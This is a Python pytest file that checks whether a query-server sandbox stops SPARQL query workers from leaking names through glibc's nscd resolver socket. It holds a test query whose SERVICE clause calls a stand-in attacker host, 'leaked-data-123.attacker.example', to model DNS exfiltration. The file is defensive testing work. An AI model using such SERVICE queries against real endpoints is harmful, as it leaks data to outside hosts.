"""No name leaves a query worker: glibc's resolver asks nscd (or systemd-resolved, avahi) over a
Unix socket, and the sandbox refuses the workers every new socket and connect, Unix ones too.

A fake nscd listens on a Unix socket that a private mount namespace puts at nscd's path
(`/var/run/nscd/socket`), so glibc in any process there sends it each name it resolves. An
unsandboxed engine's SERVICE lookup reaches it (the test can fail); a query worker's does not."""

from __future__ import annotations

import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from .server_fixtures import recording

NAME = b"leaked-data-123.attacker.example"
QUERY = f"SELECT * WHERE {{ SERVICE <http://{NAME.decode()}/sparql> {{ ?s ?p ?o }} }}"
# Mount a tmpfs over /var/run (only in the namespace) and the fake's directory at nscd's place.
NAMESPACE = (
    'mount -t tmpfs tmpfs "$(realpath /var/run)" && mkdir -p /var/run/nscd '
    '&& mount --bind "$0" /var/run/nscd && exec "$@"'
)
UNSANDBOXED = f"""
from pyoxigraph import Store
try:
    list(Store().query({QUERY!r}))
except OSError as exc:
    print(exc)
"""
IN_A_WORKER = f"""
import asyncio, sys
from il2kg.query.result import QueryError
from il2kg.server.pool import WorkerPool
from il2kg.server.messages import Job

async def main() -> None:
    pool = WorkerPool(sys.argv[1], size=1, timeout=20)
    await pool.start()
    try:
        await (await pool.run(Job(query={QUERY!r}, format="json"))).read()
        print("answered")
    except QueryError as exc:
        print(exc.status, exc.message)
    finally:
        await pool.stop()

asyncio.run(main())
"""


def namespaces_available() -> bool:
    """True when this process may make a private mount namespace (root, unshare present)."""
    if shutil.which("unshare") is None:
        return False
    return subprocess.run(["unshare", "--mount", "true"], capture_output=True).returncode == 0


pytestmark = [
    pytest.mark.slow,
    pytest.mark.server,
    pytest.mark.skipif(
        not namespaces_available(),
        reason="needs a private mount namespace (root and unshare --mount) to "
        "put a fake nscd at /var/run/nscd/socket",
    ),
]


@contextmanager
def fake_nscd(folder: Path) -> Iterator[list[bytes]]:
    """A fake nscd on `folder`/socket recording every request it gets."""
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "socket"))
    with recording(server) as received:
        yield received


def run_in_namespace(folder: Path, script: str, *args: str) -> str:
    """Run a Python script where nscd's socket is the fake's; its output."""
    result = subprocess.run(
        [
            "unshare",
            "--mount",
            "sh",
            "-c",
            NAMESPACE,
            str(folder),
            sys.executable,
            "-c",
            script,
            *args,
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_an_unsandboxed_engine_sends_the_name_to_the_fake_resolver(tmp_path: Path) -> None:
    with fake_nscd(tmp_path) as received:
        run_in_namespace(tmp_path, UNSANDBOXED)
    assert any(NAME in request for request in received), received


def test_a_query_worker_sends_no_name_to_any_resolver(tmp_path: Path, store_dir: Path) -> None:
    with fake_nscd(tmp_path) as received:
        output = run_in_namespace(tmp_path, IN_A_WORKER, str(store_dir))
    assert received == []
    assert not output.startswith("answered"), output
